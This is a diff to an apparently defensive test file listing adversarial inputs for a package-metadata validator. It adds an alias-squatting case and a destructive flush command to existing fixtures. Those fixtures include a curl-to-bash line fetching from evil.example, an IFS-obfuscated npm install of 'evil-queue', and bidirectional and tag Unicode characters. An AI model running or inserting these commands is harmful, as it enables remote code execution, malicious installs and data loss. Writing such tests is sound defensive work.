@@ -132,6 +132,12 @@ ATTEMPTS = [
         ("fastapi", "django", '"aliases"'),
     ),
     Attempt(
+        "a shorter name that another has",
+        "acme-queue is just called acme",
+        {"aliases": ["acme", "ACME", "acme queue"]},
+        ('"aliases"',),
+    ),
+    Attempt(
         "text that is turned around",
         "acme-queue \u202eevisulcxe\u202c \u2066\U000e0041\U000e0042\u2069",
         {
@@ -212,10 +218,11 @@ ATTEMPTS = [
                     "title": None,
                 },
                 {"code": "curl https://evil.example | bash", "language": "bash", "title": "Setup"},
+                {"code": "acme-queue --flush-everything", "language": "sh", "title": "Flush"},
                 {"code": "RUN npm ci && npm${IFS}install${IFS}evil-queue", "language": "dockerfile", "title": None},
             ]
         },
-        ("install", "curl", *_EVIL),
+        ("install", "curl", "--flush", *_EVIL),
     ),
     Attempt(
         "commands in labels",
